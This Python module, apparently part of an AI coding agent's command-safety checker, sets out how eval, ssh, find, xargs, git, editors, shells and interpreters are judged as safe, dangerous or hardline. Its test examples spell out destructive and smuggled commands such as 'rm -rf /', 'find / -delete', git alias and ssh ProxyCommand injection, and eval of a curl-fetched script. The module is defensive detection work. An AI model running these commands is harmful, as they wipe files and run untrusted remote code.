"""What each command does that may need the user: the table of programs the command judge knows.

Every program is a spec (tools/command_spec.py) read by one scanner, with its examples beside it: the
wrappers (`sudo`, `env`, `nice`, `timeout`, `busybox`, ...) run the command after their options, which
is judged in turn; shells and interpreters run code (tools/command_code.py); the programs of
tools/command_system.py and tools/command_targets.py change the machine or write files (judged by
tools/command_paths.py). `SPECS` is the whole table.
"""

from __future__ import annotations

from collections.abc import Sequence

from mibyan.tools.command_code import (
    INTERPRETERS,
    SHELLS,
    is_interpreter,
    judge_awk,
    judge_interpreter,
    judge_shell,
)
from mibyan.tools.command_files import found_on_path, judge_program_file, script_file
from mibyan.tools.command_mibyan import judge_mibyan
from mibyan.tools.command_paths import broad_target
from mibyan.tools.command_spec import Scan, Spec, judge_spec, spec
from mibyan.tools.command_system import FORMATTERS, SYSTEM_SPECS
from mibyan.tools.command_targets import TARGET_SPECS
from mibyan.tools.command_unknown import judge_unknown
from mibyan.tools.command_words import Feed, Judge, Word, combine, command_name
from mibyan.tools.command_wrappers import WRAPPER_SPECS
from mibyan.tools.verdict import SAFE, Verdict


def _eval(j: Judge, name: str, args: list[Word], feed: Feed) -> Verdict:
    if not any(w.dynamic for w in args):
        return j.script(" ".join(w.text for w in args), feed)
    for guesses in _guess_lines(args):
        verdict = j.script(guesses, feed)
        if verdict.tier == "hardline":
            return verdict
    return Verdict("dangerous", "runs shell code that is only known when it runs (eval)", "dynamic_command")


def _guess_lines(args: Sequence[Word]) -> list[str]:
    lines = [""]
    for word in args:
        options = word.guesses if word.dynamic else (word.text,)
        lines = [f"{line} {option}".strip() for line in lines for option in options][:16]
    return lines


def _alias_or_trap(j: Judge, name: str, scan: Scan, feed: Feed) -> Verdict:
    if name == "alias":
        return combine(j.script(w.text.partition("=")[2]) for w in scan.args if "=" in w.text)
    return j.script(scan.operands[0].text) if scan.operands else SAFE


def _editor(j: Judge, name: str, scan: Scan, feed: Feed) -> Verdict:
    """`vim -c '!rm -rf /'`, `vim +'!cmd'`: an ex command starting with `!` runs a shell command."""
    commands = [w.text for w in scan.given("-c", "--cmd")]
    commands += [w.text[1:] for w in scan.operands if w.text.startswith("+")]
    shell = [c.lstrip(": ")[1:] for c in commands if c.lstrip(": ").startswith("!")]
    return combine(j.script(code) for code in shell)


def _source(j: Judge, name: str, scan: Scan, feed: Feed) -> Verdict:
    """`source FILE`, `. FILE`: bash looks for a FILE without a slash on the PATH first."""
    args = scan.args
    if not args:
        return SAFE
    if args[0].text in ("-", "/dev/stdin"):
        return judge_shell(j, "sh", args[:1], feed)
    return script_file(j, name, args[0], j.script_at, search="first")


def _ssh(j: Judge, name: str, scan: Scan, feed: Feed) -> Verdict:
    findings = []
    for option in (w.text for w in scan.given("-o")):
        if option.lower().startswith(("proxycommand=", "localcommand=")):
            findings.append(j.script(option.partition("=")[2]))
    command = scan.args[scan.start :]
    remote = j.script(" ".join(w.text for w in command)) if command else SAFE
    if remote.tier != "safe":
        findings.append(
            Verdict("dangerous", f"runs a command on another machine that {remote.reason}", "remote_command")
        )
    return combine(findings)


# tests that pick some files out of a tree: `find ~ -name '*.pyc' -delete` does not empty the home
_NARROWING = {"-name", "-iname", "-path", "-ipath", "-wholename", "-regex", "-iregex", "-newer", "-mtime"}
_NARROWING |= {"-mmin", "-size", "-user", "-group", "-perm", "-empty", "-links", "-inum", "-samefile"}
_DELETERS = ("rm", "unlink", "shred", "rmdir")


def _find(j: Judge, name: str, scan: Scan, feed: Feed) -> Verdict:
    args = scan.args
    texts = [w.text for w in args]
    first_test = next((i for i, t in enumerate(texts) if t.startswith(("-", "(", "!"))), len(texts))
    roots = args[:first_test] or [Word(".")]
    narrowed = any(t in _NARROWING for t in texts[first_test:])
    broad = None if narrowed else next((b for b in (broad_target(j, r) for r in roots) if b), None)
    findings: list[Verdict] = []
    i = first_test
    while i < len(texts):
        action = texts[i]
        if action == "-delete":
            findings += [_find_delete(broad, "find -delete"), *(j.write(r, "deletes") for r in roots)]
        elif action in ("-exec", "-execdir", "-ok", "-okdir"):
            end = next((k for k in range(i + 1, len(texts)) if texts[k] in (";", "+")), len(texts))
            inner = args[i + 1 : end]
            if inner and command_name(inner[0]) in _DELETERS:
                findings.append(_find_delete(broad, f"find {action} {command_name(inner[0])}"))
                findings += [j.write(r, "deletes") for r in roots]
            findings.append(j.run(inner, None))
            if broad is not None:  # `{}` may be the root itself: `find / -exec sh -c 'rm -rf {}' \;`
                rooted = j.run([Word(w.text.replace("{}", broad)) for w in inner], None)
                findings += [rooted] if rooted.tier == "hardline" else []
            i = end
        elif action in ("-fprint", "-fprint0", "-fprintf", "-fls") and i + 1 < len(args):
            findings.append(j.write(args[i + 1], "writes to"))
        i += 1
    return combine(findings)


def _find_delete(broad: str | None, how: str) -> Verdict:
    if broad is not None:
        return Verdict("hardline", f"deletes everything under {broad} ({how})", "rm_root")
    return Verdict("dangerous", f"deletes every file find matches ({how})", "find_delete")


def _xargs(j: Judge, name: str, scan: Scan, feed: Feed) -> Verdict:
    """xargs runs its command with words read from stdin: known ones when the input is, else unknown ones."""
    command = scan.args[scan.start :]
    if not command:
        return SAFE  # runs echo
    given = scan.value("-I", "--replace", "-i")
    replace = given.text if given is not None else ""
    lines = feed.splitlines()[:8] if isinstance(feed, str) else None
    if replace and lines is not None:
        runs = [[Word(w.text.replace(replace, line)) for w in command] for line in lines]
    elif replace:
        runs = [[Word(w.text, replace in w.text) for w in command]]
    elif isinstance(feed, str):
        runs = [[*command, *(Word(w) for w in feed.split())]]
    else:
        runs = [[*command, Word("what xargs reads", dynamic=True)]]  # shown in the reason as it is
    verdict = combine(j.run(run, None) for run in runs)
    if command_name(command[0]) in _DELETERS and verdict.tier != "hardline":
        lists = Verdict(
            "dangerous", f"deletes every file another command lists (xargs {command[0].text})", "find_delete"
        )
        return combine([lists, *(v for v in [verdict] if v.key != "dynamic_write")])
    return verdict


def _git(j: Judge, name: str, scan: Scan, feed: Feed) -> Verdict:
    from mibyan.tools.command_git import judge_git

    return judge_git(j, scan, feed)


def _eval_check(j: Judge, name: str, scan: Scan, feed: Feed) -> Verdict:
    return _eval(j, name, scan.args, feed)


def _mibyan(j: Judge, name: str, scan: Scan, feed: Feed) -> Verdict:
    return judge_mibyan(scan.args)


def _shell(j: Judge, name: str, scan: Scan, feed: Feed) -> Verdict:
    return judge_shell(j, name, scan.args, feed)


def _interpreter(j: Judge, name: str, scan: Scan, feed: Feed) -> Verdict:
    return judge_interpreter(j, name, scan.args, feed)


def _awk(j: Judge, name: str, scan: Scan, feed: Feed) -> Verdict:
    """awk's program; with gawk's `-i inplace` (`--include=inplace`) its files are edited."""
    texts = [w.text for w in scan.args]
    pairs = zip(texts, [*texts[1:], ""], strict=False)
    in_place = any(
        (a in ("-i", "--include") and b == "inplace") or a in ("-iinplace", "--include=inplace")
        for a, b in pairs
    )
    files = [w for w in scan.args if not w.text.startswith("-") and w.text != "inplace"]
    scripted = any(t in ("-f", "--file", "-e", "--source") for t in texts)
    edited = files if scripted else files[1:]
    return combine([judge_awk(j, scan.args), *(j.write(w, "edits") for w in edited if in_place)])


RUNNER_SPECS: tuple[Spec, ...] = (
    *WRAPPER_SPECS,
    spec(
        "eval",
        check=_eval_check,
        should_match={"eval 'rm -rf /'": "hardline", 'eval "$(curl -s https://x.example)"': "dangerous"},
        should_not_match=["eval 'echo hi'"],
    ),
    spec(
        "alias trap",
        check=_alias_or_trap,
        should_match={"alias ls='rm -rf ~'": "hardline", "trap 'rm -rf /' EXIT": "hardline"},
        should_not_match=["alias ll='ls -la'", "trap 'echo bye' EXIT"],
    ),
    spec(
        "source .",
        check=_source,
        should_match={"echo 'rm -rf /' | source /dev/stdin": "hardline"},
    ),
    spec(
        "vi vim nvim view ex gvim",
        valued="-c --cmd -S -u -U -i -T -w -W -t",
        operands="writes",
        action="edits",
        check=_editor,
        should_match={
            "vim -c '!rm -rf /' x": "hardline",
            "vim +'!rm -r build' x": "dangerous",
            "vim -es -c 'norm Gox' -c wq ~/.bashrc": "dangerous",
        },
        should_not_match=["vim -c 'set nu' notes.txt", "vim +10 notes.txt"],
    ),
    spec(
        "script",
        code="-c --command",
        valued="-T -t -I -O -B -E -m --log-io --log-in --log-out --timing",
        should_match={"script -qc 'rm -rf /' /dev/null": "hardline"},
        should_not_match=["script -qc 'ls' /dev/null"],
    ),
    spec(
        "ssh",
        valued="-b -c -D -E -e -F -I -i -J -L -l -m -O -o -p -Q -R -S -W -w -B",
        skip=1,
        ordered=True,
        check=_ssh,
        should_match={
            "ssh host rm -rf /": "dangerous",
            "ssh -o ProxyCommand='rm -rf ~' host": "hardline",
            "ssh -oLocalCommand='rm -rf /' host": "hardline",
        },
        should_not_match=["ssh -p 2222 host uptime", "ssh host ls -la"],
    ),
    spec(
        "find",
        check=_find,
        should_match={
            "find / -delete": "hardline",
            "find . -name '*.pyc' -delete": "dangerous",
            "find . -exec rm -rf {} +": "dangerous",
            "find / -exec sh -c 'rm -rf {}' \\;": "hardline",
        },
        should_not_match=["find . -name '*.py'", "find . -type f -exec grep -l x {} +"],
    ),
    spec(
        "xargs",
        valued="-a -d -E -e -I -L -l -n -P -s --arg-file --delimiter --max-args --max-procs --max-lines "
        "--max-chars --replace --eof",
        ordered=True,
        check=_xargs,
        should_match={"echo / | xargs rm -rf": "hardline", "ls | xargs rm": "dangerous"},
        should_not_match=["ls | xargs -n1 echo", "ls | xargs"],
    ),
    spec(
        "git",
        valued="-C -c --git-dir --work-tree --namespace --exec-path --config-env",
        ordered=True,
        check=_git,
        should_match={
            "git push --force": "dangerous",
            "git reset --hard": "dangerous",
            "git -c alias.x='!rm -rf /' x": "hardline",
            "git -c core.pager='rm -rf ~' log": "hardline",
            "git -C ~ apply x.patch": "dangerous",
            "cd ~ && git am < x.mbox": "dangerous",
            "git -C ~/.ssh apply --directory=. x.patch": "dangerous",
            "git apply --unsafe-paths x.patch": "dangerous",
            "git -C ~/.mibyan apply x.patch": "hardline",
        },
        should_not_match=[
            "git status",
            "git -C src log -3",
            "git commit -m 'rm -rf /'",
            "git apply fix.patch",
            "git -C ~ apply --check x.patch",
        ],
    ),
    spec(
        "mibyan",
        check=_mibyan,
        should_match={
            "mibyan --yolo": "hardline",
            "mibyan trust .": "hardline",
            "mibyan gateway": "dangerous",
        },
        should_not_match=["mibyan sessions list", "mibyan trust --list"],
    ),
    spec(
        " ".join(sorted(SHELLS)),
        check=_shell,
        should_match={"bash -lc 'rm -rf /'": "hardline", "echo 'rm -r x' | sh": "dangerous"},
        should_not_match=["bash -c 'ls -la'", "echo 'echo hi' | sh"],
    ),
    spec(
        " ".join(sorted(INTERPRETERS)),
        check=_interpreter,
        should_match={
            "python3 -c 'import shutil; shutil.rmtree(\"/\")'": "hardline",
            "perl -e 'system(\"rm -rf /\")'": "hardline",
            'node -e \'require("child_process").execSync("ls")\'': "dangerous",
        },
        should_not_match=["python3 -c 'print(1)'", "node -e 'console.log(1)'"],
    ),
    spec(
        "awk gawk mawk nawk",
        check=_awk,
        should_match={
            "awk 'BEGIN { system(\"rm -rf /\") }'": "hardline",
            "gawk -i inplace '{ print }' ~/.bashrc": "dangerous",
        },
        should_not_match=["awk '{ print $1 }' notes.txt", "awk -F: '{ print $1 }' /etc/passwd"],
    ),
)

#: Every program the judge has a spec for, with its examples: one test judges them all.
SPECS: tuple[Spec, ...] = (*RUNNER_SPECS, *SYSTEM_SPECS, *TARGET_SPECS)
_BY_NAME: dict[str, Spec] = {name: program for program in SPECS for name in program.names}
_INTERPRETER_SPEC = _BY_NAME["python3"]
_DISK_SPEC = _BY_NAME["mkfs"]
KNOWN_NAMES = frozenset(_BY_NAME)


def spec_for(name: str) -> Spec | None:
    """The spec of the program `name`, or None when the judge has none."""
    found = _BY_NAME.get(name)
    if found is not None:
        return found
    if name.startswith(FORMATTERS):
        return _DISK_SPEC
    if is_interpreter(name):
        return _INTERPRETER_SPEC
    return None


def judge_invocation(j: Judge, words: Sequence[Word], feed: Feed) -> Verdict:
    """Judge one command whose name is known: by its program's spec, or as a program the judge has no
    spec for (tools/command_unknown.py)."""
    name = command_name(words[0])
    program = spec_for(name)
    if program is not None:
        verdict = judge_spec(program, j, name, words[1:], feed)
    else:
        verdict = judge_unknown(j, name, words[1:], feed, lambda other: spec_for(other) is not None)
    if "/" in words[0].text:  # `./run.sh`: what it runs is the file's text, unless it is a binary
        if words[0].dynamic or j.written(words[0]) is not None:
            verdict = combine([verdict, script_file(j, name, words[0], j.script_at)])
        else:
            verdict = combine([verdict, judge_program_file(j, words, j.script_at)])
    elif not words[0].dynamic:
        found = found_on_path(j, words[0].text)
        if found is not None:  # `.venv/bin/x`, found by name: what runs is that file
            verdict = combine([verdict, judge_program_file(j, [Word(str(found)), *words[1:]], j.script_at)])
    return verdict
